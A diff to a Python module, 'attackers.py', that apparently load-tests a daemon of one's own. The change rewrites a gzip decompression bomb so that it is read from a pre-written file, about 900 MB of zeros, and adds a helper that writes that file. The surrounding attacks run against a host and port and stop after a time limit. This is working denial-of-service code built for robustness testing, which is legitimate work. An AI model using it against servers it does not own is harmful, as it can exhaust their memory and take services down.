@@ -1,8 +1,12 @@
 """attackers.py KIND HOST PORT SECONDS: one attack on a daemon; prints what it managed as JSON.
 
-Each stops by itself after SECONDS. Only for a daemon of one's own on this host.
+Each stops by itself after SECONDS. Only for a daemon of one's own on this host. gzip_bomb reads its
+message from the file GZIP_BOMB (of write_gzip_bomb), because a tenth of the processors would need
+longer to compress it than the attack lasts.
 """
+import gzip
 import json
+import os
 import pathlib
 import socket
 import ssl
@@ -10,7 +14,6 @@ import struct
 import sys
 import threading
 import time
-import zlib
 
 import http2
 
@@ -75,10 +78,15 @@ def size_lie_64(attack):
         one.join()
 
 
+def write_gzip_bomb(path):
+    with gzip.open(path, "wb", compresslevel=9) as bomb:
+        for _ in range(900):
+            bomb.write(bytes(1 << 20))
+
+
 def gzip_bomb(attack):
     """A megabyte that a decompressor would turn into a gigabyte."""
-    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
-    bomb = b"".join(packer.compress(bytes(1 << 20)) for _ in range(900)) + packer.flush()
+    bomb = pathlib.Path(os.environ["GZIP_BOMB"]).read_bytes()
     extra = (("grpc-encoding", "gzip"),)
     while attack.going():
         try:
